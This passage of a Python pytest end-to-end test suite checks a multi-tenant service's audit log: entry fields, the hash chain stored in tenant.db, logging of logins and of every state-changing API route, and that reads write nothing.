"""
The audit log, from the outside: which requests leave which entries (and
with which fields), that denied and timed-out requests are recorded, that no
secret ever reaches an entry, the viewer's filters, cursor paging and
validation, the JSON Lines and CSV exports, tenant isolation, tamper
evidence (`kura audit verify` after editing tenant.db behind kurad's back)
and survival across restarts.

Entries are read through a second admin session: reads write no entry, so
counting before and after an action counts exactly what the action wrote.
"""

import base64
import csv
import datetime as dt
import hashlib
import io
import json
import re
import secrets
import shutil
import sqlite3
import time
from pathlib import Path

import pytest

import kura_e2e as k

AUDIT = "/api/v1/audit"
EXPORT = "/api/v1/audit/export"
ENTRY_KEYS = {"seq", "time", "actor", "ip", "userAgent", "requestId", "action", "target",
              "outcome", "errorCode", "hash"}
ACTOR_TYPES = ["anonymous", "user", "api_key", "operator", "system"]
OUTCOMES = ["success", "denied", "failed"]
CSV_HEADER = ["seq", "time", "actor_type", "actor_id", "actor_email", "actor_role", "ip",
              "user_agent", "request_id", "action", "target_type", "target_id",
              "target_properties", "outcome", "error_code", "hash"]
RFC3339 = re.compile(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?(Z|[+-]\d{2}:\d{2})$")
UNSAFE = ("post", "put", "patch", "delete")


# ---------------------------------------------------------------- helpers


def rid(r) -> str:
    v = r.headers.get("X-Request-Id")
    assert v, f"response without X-Request-Id: {r.status_code} {r.headers}"
    return v


def parse_time_us(s: str) -> int:
    """RFC 3339 to microseconds since the epoch (exact, no float)."""
    assert RFC3339.match(s), f"not RFC 3339: {s!r}"
    m = re.match(r"^(\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2})(?:\.(\d+))?(Z|[+-]\d{2}:\d{2})$", s)
    base = dt.datetime.fromisoformat(m.group(1) + ("+00:00" if m.group(3) == "Z" else m.group(3)))
    frac = (m.group(2) or "").ljust(6, "0")[:6]
    return int(base.timestamp()) * 1_000_000 + int(frac or 0)


def fmt_time_us(us: int, offset_minutes: int = 0) -> str:
    """Microseconds to RFC 3339, in UTC ('Z') or at the given offset."""
    tz = dt.timezone(dt.timedelta(minutes=offset_minutes))
    d = dt.datetime.fromtimestamp(us // 1_000_000, tz).replace(microsecond=us % 1_000_000)
    s = d.isoformat(timespec="microseconds")
    return s.replace("+00:00", "Z") if offset_minutes == 0 else s


def audit_page(client, params=()):
    """One GET /api/v1/audit; params is a list of (name, value) pairs."""
    r = client.get(AUDIT, params=list(params))
    assert r.status_code == 200, f"GET {AUDIT} {list(params)}: {r.status_code} {r.text[:500]}"
    assert r.headers["Content-Type"].startswith("application/json"), r.headers
    body = r.json()
    assert isinstance(body.get("results"), list), body
    assert set(body) <= {"results", "paging"}, body
    return body


def audit_all(client, params=(), limit: int = 100):
    """Every entry matching params, newest first, walking the cursor."""
    out, after = [], None
    for _ in range(10000):
        p = list(params) + [("limit", str(limit))] + ([("after", after)] if after else [])
        body = audit_page(client, p)
        out += body["results"]
        nxt = body.get("paging", {}).get("next", {}).get("after")
        if not nxt:
            return out
        after = nxt
    raise AssertionError("paging never ended")


def head_seq(client) -> int:
    res = audit_page(client, [("limit", "1")])["results"]
    return int(res[0]["seq"]) if res else 0


def entries_since(client, seq: int, params=()):
    """The entries newer than seq (newest first)."""
    out, after = [], None
    while True:
        p = list(params) + [("limit", "100")] + ([("after", after)] if after else [])
        body = audit_page(client, p)
        for e in body["results"]:
            if int(e["seq"]) <= seq:
                return out
            out.append(e)
        after = body.get("paging", {}).get("next", {}).get("after")
        if not after:
            return out


def with_rid(entries, request_id):
    return [e for e in entries if e["requestId"] == request_id]


def only(entries, what=""):
    assert len(entries) == 1, f"expected exactly one entry {what}, got {len(entries)}:\n" + \
        "\n".join(json.dumps(e) for e in entries)
    return entries[0]


def tenant_db(data_dir: Path, tenant: str) -> Path:
    return Path(data_dir) / "tenants" / tenant / "tenant.db"


def ro_connect(path: Path) -> sqlite3.Connection:
    return sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=10)


def db_audit_rows(data_dir: Path, tenant: str):
    con = ro_connect(tenant_db(data_dir, tenant))
    try:
        con.row_factory = sqlite3.Row
        return [dict(r) for r in con.execute("SELECT * FROM audit_log ORDER BY seq")]
    finally:
        con.close()


def db_counts(data_dir: Path):
    """{tenant: number of audit rows} for every tenant database on disk."""
    out = {}
    for d in sorted((Path(data_dir) / "tenants").iterdir()):
        if (d / "tenant.db").is_file():
            con = ro_connect(d / "tenant.db")
            try:
                out[d.name] = con.execute("SELECT count(*) FROM audit_log").fetchone()[0]
            finally:
                con.close()
    return out


CANON_FIELDS = ["seq", "ts_us", "actor_type", "actor_id", "actor_email", "actor_role", "ip",
                "user_agent", "request_id", "action", "target_type", "target_id",
                "target_props", "outcome", "error_code"]


def canonical(row) -> bytes:
    """docs/internals/audit.md: compact JSON, keys sorted, every field but hash."""
    d = {f: row[f] for f in CANON_FIELDS}
    d["prev_hash"] = bytes(row["prev_hash"]).hex()
    return json.dumps(d, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()


def row_hash(row) -> bytes:
    return hashlib.sha256(canonical(row) + bytes(row["prev_hash"])).digest()


def csv_cell(v: str) -> str:
    """What the CSV export must show for a value: formula starters defused."""
    return "'" + v if v[:1] in ("=", "+", "-", "@", "\t", "\r") else v


def csv_row_of(e) -> list:
    return [e["seq"], e["time"], e["actor"]["type"], e["actor"].get("id") or "",
            e["actor"]["email"], e["actor"]["role"], e["ip"], e["userAgent"], e["requestId"],
            e["action"], e["target"]["type"], e["target"]["id"], e["target"]["properties"],
            e["outcome"], e["errorCode"], e["hash"]]


def export(client, params=(), fmt=None):
    p = list(params) + ([("format", fmt)] if fmt else [])
    r = client.get(EXPORT, params=p)
    assert r.status_code == 200, f"export {p}: {r.status_code} {r.text[:500]}"
    return r


def jsonl_entries(r):
    assert r.headers["Content-Type"].split(";")[0].strip() == "application/x-ndjson", r.headers
    text = r.content.decode("utf-8")
    assert text == "" or text.endswith("\n"), "JSON Lines without a final newline"
    return [json.loads(line) for line in text.split("\n")[:-1]]


def csv_rows(r):
    assert r.headers["Content-Type"].split(";")[0].strip() == "text/csv", r.headers
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8"), newline="")))
    assert rows and rows[0] == CSV_HEADER, f"CSV header: {rows[:1]}"
    return rows[1:]


def validation_fields(r):
    err = k.assert_error(r, 422, "validation_failed")
    details = err.get("details")
    assert isinstance(details, list) and details, err
    return {d.get("field") for d in details}


def session_short_id(client) -> str:
    r = client.get("/api/v1/sessions")
    assert r.status_code == 200, r.text
    cur = [s for s in r.json()["results"] if s.get("current")]
    assert len(cur) == 1, r.json()
    return cur[0]["id"]


Clock = k.Clock


@pytest.fixture(scope="module")
def observer(world):
    """A second acme super-admin session that only reads the log."""
    c = world.login("acme_admin")
    yield c
    c.close()


# ---------------------------------------------------------------- shape and storage


def check_entry(e):
    assert set(e) == ENTRY_KEYS, f"entry keys {sorted(e)}: {e}"
    assert isinstance(e["seq"], str) and re.fullmatch(r"[1-9]\d*", e["seq"]), e
    assert isinstance(e["time"], str) and RFC3339.match(e["time"]), e
    a = e["actor"]
    assert set(a) - {"id"} == {"type", "email", "role"}, f"actor keys {sorted(a)}: {e}"
    assert a["type"] in ACTOR_TYPES, e
    # "id" is optional; where present it is a decimal string (null: see test_entry_shape)
    assert a.get("id") is None or (isinstance(a["id"], str) and re.fullmatch(r"\d+", a["id"])), \
        f"actor.id must be absent or a decimal string, got {a.get('id')!r}: {e}"
    if a["type"] in ("user", "api_key"):
        assert a.get("id"), f"a {a['type']} actor without id: {e}"
    for key in ("ip", "userAgent", "requestId", "action", "errorCode"):
        assert isinstance(e[key], str), (key, e)
    assert e["requestId"] == "" or re.fullmatch(r"[0-9a-f]{16}", e["requestId"]), e
    assert set(e["target"]) == {"type", "id", "properties"}, e
    assert all(isinstance(v, str) for v in e["target"].values()), e
    assert e["outcome"] in OUTCOMES, e
    assert (e["errorCode"] == "") == (e["outcome"] == "success"), e
    assert re.fullmatch(r"[0-9a-f]{64}", e["hash"]), e


def test_entry_shape(world, observer):
    """Every entry of the log (operator entries from the CLI, user entries,
    failed logins) has the documented shape."""
    world.server.login_raw("acme", "nobody-shape@acme.example", "whatever-pw-123")
    entries = audit_all(observer)
    assert {e["actor"]["type"] for e in entries} >= {"operator", "user", "anonymous"}
    bad = []
    for e in entries:
        try:
            check_entry(e)
            # openapi.json: actor.id is a string; the spec: "id" only when there is one
            assert "id" not in e["actor"] or e["actor"]["id"] is not None, \
                f"actor.id is null instead of absent: {e}"
        except AssertionError as x:
            bad.append(str(x).split("\n")[0])
    assert not bad, f"{len(bad)} of {len(entries)} entries do not have the documented shape:\n" + \
        "\n".join(bad[:5])


def test_api_matches_database_and_chain(world, observer):
    """What the viewer shows is what tenant.db holds, and the chain in
    tenant.db is the documented hash chain (this also proves the canonical
    form used by the tamper tests below)."""
    world.login("acme_member")
    entries = {int(e["seq"]): e for e in audit_all(observer)}
    rows = db_audit_rows(world.data_dir, "acme")
    assert [r["seq"] for r in rows] == list(range(1, len(rows) + 1)), "seqs are not 1..n"
    assert set(entries) == {r["seq"] for r in rows}
    prev = bytes(32)
    for r in rows:
        assert bytes(r["prev_hash"]) == prev, f"seq {r['seq']}: prev_hash is not the previous hash"
        assert row_hash(r) == bytes(r["hash"]), f"seq {r['seq']}: hash is not SHA-256(canonical||prev)"
        prev = bytes(r["hash"])
        e = entries[r["seq"]]
        assert e["hash"] == bytes(r["hash"]).hex()
        assert parse_time_us(e["time"]) == r["ts_us"], (e["time"], r["ts_us"])
        assert e["actor"]["type"] == ACTOR_TYPES[r["actor_type"]]
        assert (e["actor"].get("id") or "0") == str(r["actor_id"])
        assert (e["actor"]["email"], e["actor"]["role"], e["ip"], e["userAgent"], e["requestId"],
                e["action"], e["target"]["type"], e["target"]["id"], e["target"]["properties"],
                e["outcome"], e["errorCode"]) == \
            (r["actor_email"], r["actor_role"], r["ip"], r["user_agent"], r["request_id"],
             r["action"], r["target_type"], r["target_id"], r["target_props"],
             OUTCOMES[r["outcome"]], r["error_code"]), (e, r)


def test_reads_write_no_entry(world, observer):
    c = world.login("acme_admin")
    before = head_seq(observer)
    for path in ("/api/v1/me", "/api/v1/users", "/api/v1/sessions", AUDIT,
                 f"/api/v1/users/{c.user_id}", f"/api/v1/users/{c.user_id}/sessions"):
        assert c.get(path).status_code == 200, path
    assert head_seq(observer) == before, entries_since(observer, before)
    assert db_counts(world.data_dir)["acme"] == before


# ---------------------------------------------------------------- 1. logins


def test_login_success_entry(world, observer):
    a = world.account("acme_admin")
    ua = "kura-audit-test/1.0 (login success)"
    before = head_seq(observer)
    r = world.server.login_raw(a.tenant, a.email, a.password,
                               headers={"User-Agent": ua, "X-Forwarded-For": "203.0.113.9"})
    assert r.status_code == 200, r.text
    c = k.Client.from_login(world.server, r)
    new = entries_since(observer, before)
    e = only(new, "for one login")
    check_entry(e)
    assert e["requestId"] == rid(r)
    assert e["action"] == "auth.login"
    assert e["outcome"] == "success" and e["errorCode"] == ""
    assert e["actor"] == {"type": "user", "id": c.user_id, "email": a.email, "role": "super_admin"}
    assert e["ip"] == "127.0.0.1", "the IP is the peer's (no trusted proxy), not X-Forwarded-For"
    assert e["userAgent"] == ua
    assert e["target"]["type"] == "session"
    assert e["target"]["id"] == session_short_id(c), "target id is not the new session's id"
    # newest first, seq one past the head
    assert int(e["seq"]) == before + 1
    t = parse_time_us(e["time"]) / 1e6
    assert abs(t - time.time()) < 120, e["time"]


def test_login_failure_entries(world, observer):
    a = world.account("acme_member")
    member_id = world.login("acme_member").user_id
    ua = "kura-audit-test/1.0 (login failure)"
    before = head_seq(observer)

    r1 = world.server.login_raw(a.tenant, a.email, a.password + "-wrong", headers={"User-Agent": ua})
    k.assert_error(r1, 401, "invalid_credentials")
    typed = "Nobody.Here+tag@acme.example"
    r2 = world.server.login_raw(a.tenant, typed, a.password, headers={"User-Agent": ua})
    k.assert_error(r2, 401, "invalid_credentials")

    new = entries_since(observer, before)
    assert len(new) == 2, new
    e1 = only(with_rid(new, rid(r1)), "for the wrong password")
    e2 = only(with_rid(new, rid(r2)), "for the unknown e-mail")
    for e in (e1, e2):
        check_entry(e)
        assert e["action"] == "auth.login"
        assert e["outcome"] == "denied" and e["errorCode"] == "invalid_credentials", e
        assert e["ip"] == "127.0.0.1" and e["userAgent"] == ua, e
        assert e["target"]["type"] == "session" and e["target"]["id"] == "", e
    assert e1["actor"] == {"type": "user", "id": member_id, "email": a.email, "role": "member"}, e1
    assert e2["actor"]["type"] == "anonymous", e2
    assert not e2["actor"].get("id"), e2
    assert e2["actor"]["email"] == typed, "the actor e-mail of an anonymous attempt is what was typed"
    # the failed attempts created no session
    assert int(e2["seq"]) == int(e1["seq"]) + 1


def test_login_of_disabled_user_is_logged(world, observer):
    admin = world.login("acme_admin")
    acct = world.activate(world.new_user("acme", role="member", prefix="disabled"))
    uid = world.server.login(acct.tenant, acct.email, acct.password).user_id
    r = admin.request("PATCH", f"/api/v1/users/{uid}", json={"status": "disabled"})
    assert r.status_code == 200, r.text
    before = head_seq(observer)
    r = world.server.login_raw(acct.tenant, acct.email, acct.password)
    k.assert_error(r, 401, "invalid_credentials")
    e = only(entries_since(observer, before))
    assert e["requestId"] == rid(r)
    assert (e["action"], e["outcome"], e["errorCode"]) == ("auth.login", "denied",
                                                           "invalid_credentials"), e
    assert e["actor"] == {"type": "user", "id": uid, "email": acct.email, "role": "member"}, e


def test_login_records_role_at_that_moment(world, observer):
    admin = world.login("acme_admin")
    acct = world.activate(world.new_user("acme", role="member", prefix="rolechg"))
    c = world.server.login(acct.tenant, acct.email, acct.password)
    r = admin.request("PATCH", f"/api/v1/users/{c.user_id}", json={"role": "read_only"})
    assert r.status_code == 200, r.text
    c2 = world.server.login(acct.tenant, acct.email, acct.password)
    logins = audit_all(observer, [("actorId", c.user_id), ("action", "auth.login"),
                                  ("outcome", "success")])
    assert [e["actor"]["role"] for e in logins][:2] == ["read_only", "member"], logins
    assert session_short_id(c2) == logins[0]["target"]["id"]


def test_unknown_tenant_writes_nothing(world, observer):
    a = world.account("acme_admin")
    world.login("globex_admin")
    before = db_counts(world.data_dir)
    assert {"acme", "globex"} <= set(before)
    head = head_seq(observer)
    for tenant in ("nosuchtenant", "acmex", "acm", "No Such Tenant!", "../acme", "ACME"):
        r = world.server.login_raw(tenant, a.email, a.password)
        assert r.status_code in (401, 422), (tenant, r.status_code, r.text)
    assert db_counts(world.data_dir) == before
    assert head_seq(observer) == head


# ---------------------------------------------------------------- 2. every state change


def openapi_unsafe_routes():
    spec = json.loads((k.REPO / "docs" / "openapi.json").read_text())
    return sorted((m.upper(), p) for p, ops in spec["paths"].items() for m in ops if m in UNSAFE)


def test_every_state_change_writes_exactly_one_entry(world, observer):
    """Walks every POST/PUT/PATCH/DELETE route of docs/openapi.json: one
    successful call writes exactly one entry, with the route's action, the
    caller as actor and the response's request id (reads sent with POST --
    search, batch read -- write none)."""
    admin_acct = world.activate(world.new_user("acme", role="super_admin", prefix="walker"))
    admin = world.server.login(admin_acct.tenant, admin_acct.email, admin_acct.password)

    def login_scenario():
        acct = world.activate(world.new_user("acme", role="member", prefix="walk-login"))
        got = {}

        def act():
            got["r"] = world.server.login_raw(acct.tenant, acct.email, acct.password)
            return got["r"]

        def new_session_id():
            return session_short_id(k.Client.from_login(world.server, got["r"]))
        return (act, 200, "auth.login", lambda: got["r"].json()["user"]["id"], "session",
                new_session_id)

    def logout_scenario():
        acct = world.activate(world.new_user("acme", role="member", prefix="walk-logout"))
        c = world.server.login(acct.tenant, acct.email, acct.password)
        sid = session_short_id(c)
        return c.logout, 204, "auth.logout", lambda: c.user_id, "session", sid

    def password_scenario():
        acct = world.activate(world.new_user("acme", role="member", prefix="walk-pw"))
        c = world.server.login(acct.tenant, acct.email, acct.password)
        world.server.login(acct.tenant, acct.email, acct.password)  # a session that gets ended
        return (lambda: c.change_password(acct.password, k.strong_password()), 204,
                "auth.password_change", lambda: c.user_id, "user", c.user_id)

    def users_create_scenario():
        email = f"walk-create-{secrets.token_hex(4)}@acme.example"
        made = {}

        def act():
            r = admin.post("/api/v1/users", json={"email": email, "role": "member"})
            if r.status_code == 201:
                made["id"] = r.json()["user"]["id"]
            return r
        return act, 201, "user.create", lambda: admin.user_id, "user", lambda: made.get("id")

    def users_update_scenario():
        acct = world.activate(world.new_user("acme", role="member", prefix="walk-upd"))
        c = world.server.login(acct.tenant, acct.email, acct.password)   # its sessions end
        return (lambda: admin.request("PATCH", f"/api/v1/users/{c.user_id}",
                                      json={"role": "read_only", "displayName": "Renamed"}),
                200, "user.update", lambda: admin.user_id, "user", c.user_id)

    def users_delete_scenario():
        acct = world.activate(world.new_user("acme", role="member", prefix="walk-del"))
        c = world.server.login(acct.tenant, acct.email, acct.password)
        return (lambda: admin.request("DELETE", f"/api/v1/users/{c.user_id}"), 204,
                "user.delete", lambda: admin.user_id, "user", c.user_id)

    def user_sessions_delete_scenario():
        acct = world.activate(world.new_user("acme", role="member", prefix="walk-kick"))
        c = world.server.login(acct.tenant, acct.email, acct.password)
        world.server.login(acct.tenant, acct.email, acct.password)
        return (lambda: admin.request("DELETE", f"/api/v1/users/{c.user_id}/sessions"), 204,
                "user.sessions_revoke", lambda: admin.user_id, "user", c.user_id)

    def sessions_delete_scenario():
        acct = world.activate(world.new_user("acme", role="member", prefix="walk-sess"))
        c = world.server.login(acct.tenant, acct.email, acct.password)
        other = world.server.login(acct.tenant, acct.email, acct.password)
        sid = session_short_id(other)
        return (lambda: c.request("DELETE", f"/api/v1/sessions/{sid}"), 204, "session.revoke",
                lambda: c.user_id, "session", sid)

    def users_unlock_scenario():
        acct = world.activate(world.new_user("acme", role="member", prefix="walk-unlock"))
        uid = world.server.login(acct.tenant, acct.email, acct.password).user_id
        r = admin.get("/api/v1/settings/security")
        assert r.status_code == 200, r.text
        for i in range(r.json().get("lockoutThreshold", 0)):
            world.server.login_raw(acct.tenant, acct.email, f"wrong-{i}-{acct.password}")
        return (lambda: admin.post(f"/api/v1/users/{uid}/unlock"), 204, "user.unlock",
                lambda: admin.user_id, "user", uid)

    def settings_patch_scenario():
        r = admin.get("/api/v1/settings/security")
        assert r.status_code == 200, r.text
        minutes = 31 if r.json().get("lockoutMinutes") != 31 else 32
        return (lambda: admin.request("PATCH", "/api/v1/settings/security",
                                      json={"lockoutMinutes": minutes}),
                200, "settings.update", lambda: admin.user_id, "settings", "security")

    def apikeys_create_scenario():
        made = {}

        def act():
            r = admin.post("/api/v1/api-keys", json={"name": "walk", "scopes": ["users.read"]})
            if r.status_code == 201:
                made["id"] = r.json()["apiKey"]["id"]
            return r
        return act, 201, "apikey.create", lambda: admin.user_id, "api_key", lambda: made.get("id")

    def apikeys_delete_scenario():
        r = admin.post("/api/v1/api-keys", json={"name": "walk-del", "scopes": ["users.read"]})
        assert r.status_code == 201, r.text
        kid = r.json()["apiKey"]["id"]
        return (lambda: admin.request("DELETE", f"/api/v1/api-keys/{kid}"), 204, "apikey.revoke",
                lambda: admin.user_id, "api_key", kid)

    # ---- the customer database: the target is the record (type = its object type)
    def contact(props=None):
        r = admin.post("/api/v1/objects/contacts",
                       json={"properties": props or {"email": f"walk-{secrets.token_hex(4)}@x.example"}})
        assert r.status_code == 201, r.text
        return r.json()["id"]

    def made_id(holder):
        return lambda: holder.get("id")

    def record_create_scenario():
        made = {}

        def act():
            r = admin.post("/api/v1/objects/contacts", json={"properties": {"firstname": "Walk"}})
            if r.status_code == 201:
                made["id"] = r.json()["id"]
            return r
        return act, 201, "record.create", lambda: admin.user_id, "contacts", made_id(made)

    def record_update_scenario():
        cid = contact()
        return (lambda: admin.request("PATCH", f"/api/v1/objects/contacts/{cid}",
                                      json={"properties": {"city": "Kyoto"}}),
                200, "record.update", lambda: admin.user_id, "contacts", cid)

    def record_archive_scenario():
        cid = contact()
        return (lambda: admin.request("DELETE", f"/api/v1/objects/contacts/{cid}"), 204,
                "record.archive", lambda: admin.user_id, "contacts", cid)

    def record_restore_scenario():
        cid = contact()
        assert admin.request("DELETE", f"/api/v1/objects/contacts/{cid}").status_code == 204
        return (lambda: admin.post(f"/api/v1/objects/contacts/{cid}/restore"), 200,
                "record.restore", lambda: admin.user_id, "contacts", cid)

    def record_purge_scenario():
        cid = contact()
        return (lambda: admin.post(f"/api/v1/objects/contacts/{cid}/purge"), 204,
                "record.purge", lambda: admin.user_id, "contacts", cid)

    def batch_create_scenario():
        made = {}

        def act():
            r = admin.post("/api/v1/objects/contacts/batch/create",
                           json={"inputs": [{"properties": {"firstname": "A"}},
                                            {"properties": {"firstname": "B"}}]})
            if r.status_code == 200:
                ids = [x["record"]["id"] for x in r.json()["results"]]
                made["id"] = f"{ids[0]}-{ids[1]}"
            return r
        return act, 200, "record.batch_create", lambda: admin.user_id, "contacts", made_id(made)

    def batch_update_scenario():
        cid = contact()
        return (lambda: admin.post("/api/v1/objects/contacts/batch/update",
                                   json={"inputs": [{"id": cid, "properties": {"city": "Nara"}}]}),
                200, "record.update", lambda: admin.user_id, "contacts", cid)

    def batch_archive_scenario():
        cid = contact()
        return (lambda: admin.post("/api/v1/objects/contacts/batch/archive", json={"ids": [cid]}),
                200, "record.archive", lambda: admin.user_id, "contacts", cid)

    def batch_read_scenario():
        cid = contact()
        # a read: no entry
        return (lambda: admin.post("/api/v1/objects/contacts/batch/read", json={"ids": [cid]}),
                200, None, None, None, None)

    def search_scenario():
        return (lambda: admin.post("/api/v1/objects/contacts/search", json={"query": "walk"}),
                200, None, None, None, None)

    def form_post_scenario():
        # a consumer's request to a public form is recorded in the tenant's
        # consumer access log (test_form_access_log.py), never in the audit log
        return (lambda: world.server.post("/f/acme/contact-us", data={"email": "c@example.com"}),
                404, None, None, None, None)

    def activity_scenario():
        cid = contact()
        return (lambda: admin.post(f"/api/v1/objects/contacts/{cid}/activities",
                                   json={"type": "note", "body": "walked"}),
                201, "activity.create", lambda: admin.user_id, "contacts", cid)

    def assoc_put_scenario():
        a, b = contact(), contact()
        return (lambda: admin.request("PUT", f"/api/v1/objects/contacts/{a}/associations/contacts/{b}",
                                      json={}),
                200, "association.put", lambda: admin.user_id, "contacts", a)

    def assoc_delete_scenario():
        a, b = contact(), contact()
        r = admin.request("PUT", f"/api/v1/objects/contacts/{a}/associations/contacts/{b}", json={})
        assert r.status_code == 200, r.text
        return (lambda: admin.request("DELETE",
                                      f"/api/v1/objects/contacts/{a}/associations/contacts/{b}"),
                204, "association.delete", lambda: admin.user_id, "contacts", a)

    def prop_name():
        return f"walk_{secrets.token_hex(3)}"

    def prop_create_scenario():
        name = prop_name()
        return (lambda: admin.post("/api/v1/properties/contacts",
                                   json={"name": name, "labels": {"en": "Walk"}, "type": "string"}),
                201, "property.create", lambda: admin.user_id, "property", f"contacts.{name}")

    def made_prop():
        name = prop_name()
        r = admin.post("/api/v1/properties/contacts",
                       json={"name": name, "labels": {"en": "Walk"}, "type": "string"})
        assert r.status_code == 201, r.text
        return name

    def prop_update_scenario():
        name = made_prop()
        return (lambda: admin.request("PATCH", f"/api/v1/properties/contacts/{name}",
                                      json={"description": "walked"}),
                200, "property.update", lambda: admin.user_id, "property", f"contacts.{name}")

    def prop_delete_scenario():
        name = made_prop()
        return (lambda: admin.request("DELETE", f"/api/v1/properties/contacts/{name}"), 204,
                "property.archive", lambda: admin.user_id, "property", f"contacts.{name}")

    def schema_create_scenario():
        name = f"walk_{secrets.token_hex(3)}"
        return (lambda: admin.post("/api/v1/schemas", json={"name": name, "labels": {"en": "Walk"}}),
                201, "schema.create", lambda: admin.user_id, "schema", name)

    def index_type():
        """A fresh custom type with properties "name" and "rank"; its name."""
        name = f"walk_{secrets.token_hex(3)}"
        r = admin.post("/api/v1/schemas", json={"name": name, "labels": {"en": "Walk"}})
        assert r.status_code == 201, r.text
        r = admin.post(f"/api/v1/properties/{name}",
                       json={"name": "rank", "labels": {"en": "Rank"}, "type": "number"})
        assert r.status_code == 201, r.text
        return name

    def index_create_scenario():
        obj = index_type()
        return (lambda: admin.post(f"/api/v1/schemas/{obj}/indexes",
                                   json={"properties": ["rank", "name"]}),
                201, "schema.index_create", lambda: admin.user_id, "schema", obj)

    def index_delete_scenario():
        obj = index_type()
        r = admin.post(f"/api/v1/schemas/{obj}/indexes", json={"properties": ["rank", "name"]})
        assert r.status_code == 201, r.text
        ix = r.json()["id"]
        return (lambda: admin.request("DELETE", f"/api/v1/schemas/{obj}/indexes/{ix}"), 204,
                "schema.index_drop", lambda: admin.user_id, "schema", obj)

    def new_list(kind="static"):
        body = {"name": "walk", "object": "contacts", "type": kind}
        if kind == "dynamic":
            body["filterGroups"] = [{"filters": [{"propertyName": "city", "operator": "HAS_PROPERTY"}]}]
        r = admin.post("/api/v1/lists", json=body)
        assert r.status_code == 201, r.text
        return r.json()["id"]

    def list_create_scenario():
        made = {}

        def act():
            r = admin.post("/api/v1/lists", json={"name": "walk", "object": "contacts", "type": "static"})
            if r.status_code == 201:
                made["id"] = r.json()["id"]
            return r
        return act, 201, "list.create", lambda: admin.user_id, "list", made_id(made)

    def list_update_scenario():
        lid = new_list()
        return (lambda: admin.request("PATCH", f"/api/v1/lists/{lid}", json={"name": "walked"}),
                200, "list.update", lambda: admin.user_id, "list", lid)

    def list_delete_scenario():
        lid = new_list()
        return (lambda: admin.request("DELETE", f"/api/v1/lists/{lid}"), 204, "list.delete",
                lambda: admin.user_id, "list", lid)

    def members_add_scenario():
        lid, cid = new_list(), contact()
        return (lambda: admin.post(f"/api/v1/lists/{lid}/members", json={"ids": [cid]}), 200,
                "list.members_add", lambda: admin.user_id, "list", lid)

    def members_remove_scenario():
        lid, cid = new_list(), contact()
        assert admin.post(f"/api/v1/lists/{lid}/members", json={"ids": [cid]}).status_code == 200
        return (lambda: admin.post(f"/api/v1/lists/{lid}/members/remove", json={"ids": [cid]}),
                200, "list.members_remove", lambda: admin.user_id, "list", lid)

    def attachment_create_scenario():
        cid = contact()
        return (lambda: admin.post(f"/api/v1/objects/contacts/{cid}/attachments",
                                   params={"filename": "walk.txt"}, data=b"walked",
                                   headers={"Content-Type": "text/plain"}),
                201, "attachment.create", lambda: admin.user_id, "contacts", cid)

    def attachment_delete_scenario():
        cid = contact()
        r = admin.post(f"/api/v1/objects/contacts/{cid}/attachments", params={"filename": "w.txt"},
                       data=b"walked", headers={"Content-Type": "text/plain"})
        assert r.status_code == 201, r.text
        aid = r.json()["id"]
        return (lambda: admin.request("DELETE", f"/api/v1/objects/contacts/{cid}/attachments/{aid}"),
                204, "attachment.delete", lambda: admin.user_id, "contacts", cid)

    # ---- multi-factor authentication
    def mfa_user():
        acct = world.activate(world.new_user("acme", role="member", prefix="walk-mfa"))
        return acct, world.server.login(acct.tenant, acct.email, acct.password)

    def mfa_login_scenario():
        acct, c = mfa_user()
        _, codes = k.enrol_mfa(c, acct.password)
        r = world.server.login_raw(acct.tenant, acct.email, acct.password)
        assert r.json().get("mfaRequired") is True, r.text
        got = {}

        def act():
            got["r"] = k.login_mfa_raw(world.server, r.json()["mfaToken"], recovery=codes[0])
            return got["r"]
        return (act, 200, "auth.login", lambda: c.user_id, "session",
                lambda: session_short_id(k.Client.from_login(world.server, got["r"])))

    def mfa_enrol_scenario():
        acct, c = mfa_user()
        return (lambda: c.post("/api/v1/me/mfa/totp", json={"password": acct.password}), 201,
                "mfa.enrol", lambda: c.user_id, "user", c.user_id)

    def mfa_confirm_scenario():
        acct, c = mfa_user()
        r = c.post("/api/v1/me/mfa/totp", json={"password": acct.password})
        assert r.status_code == 201, r.text
        secret = r.json()["secret"]
        return (lambda: c.post("/api/v1/me/mfa/totp/confirm", json={"code": k.totp(secret)}),
                200, "mfa.confirm", lambda: c.user_id, "user", c.user_id)

    def mfa_disable_scenario():
        acct, c = mfa_user()
        k.enrol_mfa(c, acct.password)
        return (lambda: c.post("/api/v1/me/mfa/disable", json={"password": acct.password}), 204,
                "mfa.disable", lambda: c.user_id, "user", c.user_id)

    def mfa_recovery_scenario():
        acct, c = mfa_user()
        k.enrol_mfa(c, acct.password)
        return (lambda: c.post("/api/v1/me/mfa/recovery-codes", json={"password": acct.password}),
                200, "mfa.recovery_renew", lambda: c.user_id, "user", c.user_id)

    def mfa_reset_scenario():
        acct, c = mfa_user()
        k.enrol_mfa(c, acct.password)
        return (lambda: admin.request("DELETE", f"/api/v1/users/{c.user_id}/mfa"), 204,
                "mfa.reset", lambda: admin.user_id, "user", c.user_id)

    # ---- roles and teams
    def new_role():
        name = f"walk_{secrets.token_hex(3)}"
        r = admin.post("/api/v1/roles", json={"name": name, "label": "Walk",
                                              "permissions": ["records.read"]})
        assert r.status_code == 201, r.text
        return name

    def role_create_scenario():
        name = f"walk_{secrets.token_hex(3)}"
        return (lambda: admin.post("/api/v1/roles", json={"name": name, "label": "Walk",
                                                          "permissions": ["records.read"]}),
                201, "role.create", lambda: admin.user_id, "role", name)

    def role_update_scenario():
        name = new_role()
        return (lambda: admin.request("PATCH", f"/api/v1/roles/{name}", json={"label": "Walked"}),
                200, "role.update", lambda: admin.user_id, "role", name)

    def role_delete_scenario():
        name = new_role()
        return (lambda: admin.request("DELETE", f"/api/v1/roles/{name}"), 204, "role.delete",
                lambda: admin.user_id, "role", name)

    def new_team():
        r = admin.post("/api/v1/teams", json={"name": f"walk-{secrets.token_hex(4)}"})
        assert r.status_code == 201, r.text
        return r.json()["id"]

    def team_create_scenario():
        made = {}

        def act():
            r = admin.post("/api/v1/teams", json={"name": f"walk-{secrets.token_hex(4)}"})
            if r.status_code == 201:
                made["id"] = r.json()["id"]
            return r
        return act, 201, "team.create", lambda: admin.user_id, "team", made_id(made)

    def team_update_scenario():
        tid = new_team()
        return (lambda: admin.request("PATCH", f"/api/v1/teams/{tid}",
